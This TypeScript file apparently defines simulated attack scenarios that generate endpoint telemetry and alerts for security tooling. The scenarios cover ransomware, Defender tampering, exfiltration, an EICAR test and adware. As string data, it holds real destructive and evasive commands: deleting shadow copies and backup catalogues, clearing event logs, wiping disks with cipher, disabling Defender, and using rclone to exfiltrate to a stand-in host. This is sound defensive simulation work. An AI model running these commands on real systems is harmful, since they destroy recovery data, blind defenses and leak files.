import { systemAccount } from '../accounts.ts'
import { fileOf } from '../images.ts'
import { evidence } from './evidence.ts'
import type { Story } from './story.ts'

/** Backups and logs are destroyed, then files are encrypted. */
export const ransomware: Story = {
  id: 'ransomware',
  needs: ['endpoint'],
  isMalicious: true,
  tell(story) {
    const device = story.server()
    const user = story.admin()
    const shell = story.spawn(
      story.running(device, 'explorer.exe', user),
      'cmd.exe',
      'cmd.exe /c C:\\PerfLogs\\1.bat',
    )
    for (const service of [
      'veeam',
      'sqlserver',
      'backup',
      'vss',
      'msexchange',
      'sophos',
      'mysql',
      'oracle',
      'sap',
      'mepocs',
      'memtas',
      'agent',
    ]) {
      story.spawn(shell, 'net.exe', `net stop ${service} /y`)
      story.spawn(shell, 'taskkill.exe', `taskkill /f /im ${service}.exe`)
    }
    const shadow = story.spawn(shell, 'vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet')
    story.spawn(shell, 'wmic.exe', 'wmic shadowcopy delete')
    story.spawn(shell, 'bcdedit.exe', 'bcdedit /set {default} recoveryenabled No')
    story.spawn(shell, 'wbadmin.exe', 'wbadmin delete catalog -quiet')
    story.alert({
      title: 'Deletion of system backups',
      description:
        'Shadow copies and the backup catalogue were deleted, as ransomware does before it encrypts.',
      severity: 'high',
      category: 'Impact',
      techniques: ['T1490', 'T1489'],
      evidence: [
        evidence.device(device),
        evidence.user(user),
        evidence.process(shadow, { verdict: 'malicious' }),
      ],
    })
    for (const log of ['System', 'Security', 'Application'])
      story.spawn(shell, 'wevtutil.exe', `wevtutil cl ${log}`)
    story.deviceEvent(shell, 'SecurityLogCleared')
    const locker = fileOf('lock64.exe', 'C:\\PerfLogs', story.inventory.profile.seed)
    const running = story.spawn(shell, locker, 'C:\\PerfLogs\\lock64.exe -path D:\\', systemAccount)
    for (let file = 0; file < 24; file++) {
      const name = `${story.random.pick(['invoice', 'plan', 'contract', 'payroll', 'orders'])}-${file}.xlsx`
      story.file(running, 'FileRenamed', fileOf(`${name}.locked`, 'D:\\Shares\\office', file), {
        PreviousFileName: name,
        PreviousFolderPath: 'D:\\Shares\\office',
      })
    }
    story.file(running, 'FileCreated', fileOf('HOW_TO_RESTORE.txt', 'D:\\Shares\\office'))
    story.spawn(shell, 'cipher.exe', 'cipher.exe /w:C:\\')
    story.spawn(shell, 'cipher.exe', 'cipher.exe /w:D:\\')
    story.alert({
      title: 'Ransomware behavior detected in the file system',
      description: 'One process renamed many documents within seconds and left a note.',
      severity: 'high',
      category: 'Impact',
      techniques: ['T1486', 'T1070.001', 'T1485'],
      threat: { name: 'Ransom:Win64/Sample.A', family: 'Sample' },
      evidence: [
        evidence.device(device),
        evidence.process(running, { verdict: 'malicious' }),
        evidence.file(locker, device, { remediation: 'active' }),
      ],
      investigation: 'running',
    })
    return { name: 'Ransomware activity on one server', systemTags: ['Ransomware'] }
  },
}

/** Somebody turns the protection off. */
export const defenderTampering: Story = {
  id: 'defender-tampering',
  needs: ['endpoint'],
  isMalicious: true,
  tell(story) {
    const device = story.workstation()
    const user = story.admin()
    const shell = story.spawn(
      story.running(device, 'explorer.exe', user),
      'powershell.exe',
      'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath C:\\ProgramData',
    )
    story.deviceEvent(
      shell,
      'TamperingAttempt',
      {},
      { TamperingAction: 'DisableRealtimeMonitoring', Status: 'Blocked' },
    )
    const key = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'
    story.registry(shell, key, 'DisableAntiSpyware', '1')
    story.alert({
      title: 'Tampering with Microsoft Defender settings',
      description: 'A command tried to switch real-time protection off and to exclude a folder from scans.',
      severity: 'medium',
      category: 'DefenseEvasion',
      techniques: ['T1562.001'],
      evidence: [
        evidence.device(device),
        evidence.user(user),
        evidence.process(shell, { remediation: 'blocked' }),
        evidence.registry(device, 'HKEY_LOCAL_MACHINE', key.slice(19), 'DisableAntiSpyware', '1'),
      ],
    })
    return { name: 'Protection settings changed on one endpoint' }
  },
}

/** Data is packed and sent to a storage nobody in the company uses. */
export const exfiltration: Story = {
  id: 'exfiltration',
  needs: ['endpoint'],
  isMalicious: true,
  tell(story) {
    const device = story.server()
    const user = story.admin()
    const shell = story.spawn(story.running(device, 'explorer.exe', user), 'cmd.exe', 'cmd.exe')
    const packer = fileOf('7z.exe', 'C:\\Program Files\\7-Zip', 'packer')
    const packing = story.spawn(
      shell,
      packer,
      '7z.exe a -pS3cret -mhe C:\\PerfLogs\\a.7z D:\\Shares\\finance',
    )
    story.file(packing, 'FileCreated', fileOf('a.7z', 'C:\\PerfLogs', story.random.int(0, 99)))
    const sync = story.spawn(
      shell,
      fileOf('rclone.exe', 'C:\\PerfLogs', 'sync'),
      'rclone.exe copy C:\\PerfLogs remote:drop --transfers 16 --no-check-certificate',
    )
    const ip = story.attackerIp()
    for (let part = 0; part < 6; part++)
      story.connect(sync, ip, 443, 'https://storage.cold-vault.example/upload')
    story.alert({
      title: 'Data copied to an unusual cloud storage',
      description: 'An archive with a password was made from a share and uploaded by a synchronisation tool.',
      severity: 'high',
      category: 'Exfiltration',
      techniques: ['T1567.002', 'T1560.001'],
      evidence: [
        evidence.device(device),
        evidence.user(user),
        evidence.process(sync, { verdict: 'malicious' }),
        evidence.ip(ip, 'LU', { role: 'destination' }),
      ],
    })
    return { name: 'Exfiltration from one server' }
  },
}

/** A test file that the antivirus finds, as somebody does every month. */
export const harmlessTest: Story = {
  id: 'harmless-test',
  needs: ['endpoint'],
  isMalicious: false,
  tell(story) {
    const device = story.workstation()
    const user = device.owner
    const browser = story.running(device, 'msedge.exe', user)
    const file = fileOf('eicar.com', `C:\\Users\\${user.name}\\Downloads`)
    story.file(browser, 'FileCreated', file, {
      FileOriginUrl: 'https://av-test.example/eicar.com',
      FileOriginReferrerUrl: 'https://av-test.example/',
    })
    story.deviceEvent(
      browser,
      'AntivirusDetection',
      { FileName: file.name, FolderPath: file.folder, SHA1: file.sha1, SHA256: file.sha256, MD5: file.md5 },
      { ThreatName: 'Virus:DOS/EICAR_Test_File', WasRemediated: true },
    )
    story.alert({
      title: 'Antivirus test file was blocked',
      description: 'The harmless file that tests whether an antivirus works was downloaded and removed.',
      severity: 'informational',
      category: 'Malware',
      techniques: [],
      detection: 'antivirus',
      threat: { name: 'Virus:DOS/EICAR_Test_File', family: 'EICAR' },
      evidence: [
        evidence.device(device, { verdict: 'noThreatsFound' }),
        evidence.file(file, device, { remediation: 'prevented' }),
      ],
      investigation: 'benign',
    })
    return { name: 'Antivirus test file on one endpoint' }
  },
}

/** Software nobody needs, bundled with something somebody wanted. */
export const unwantedSoftware: Story = {
  id: 'unwanted-software',
  needs: ['endpoint'],
  isMalicious: false,
  tell(story) {
    const device = story.workstation()
    const user = device.owner
    const browser = story.running(device, 'msedge.exe', user)
    const url = 'https://free-pdf-tools.example/setup'
    const activity = story.random.guid()
    story.deviceEvent(
      browser,
      'SmartScreenUrlWarning',
      { RemoteUrl: url },
      { Experience: 'Untrusted', ActivityId: activity },
    )
    story.deviceEvent(browser, 'SmartScreenUserOverride', { RemoteUrl: url }, { ActivityId: activity })
    const file = fileOf('pdf-tools-setup.exe', `C:\\Users\\${user.name}\\Downloads`)
    story.file(browser, 'FileCreated', file, { FileOriginUrl: url })
    const setup = story.spawn(browser, file, `"${file.folder}\\${file.name}"`)
    story.alert({
      title: 'Unwanted software was prevented',
      description: 'A program that brings advertising along was stopped while it was being installed.',
      severity: 'low',
      category: 'UnwantedSoftware',
      techniques: ['T1204.002'],
      detection: 'smartScreen',
      threat: { name: 'PUA:Win32/SampleBundler', family: 'SampleBundler' },
      evidence: [
        evidence.device(device),
        evidence.process(setup, { remediation: 'prevented' }),
        evidence.file(file, device, { verdict: 'suspicious', remediation: 'prevented' }),
      ],
    })
    return { name: 'Unwanted software on one endpoint' }
  },
}
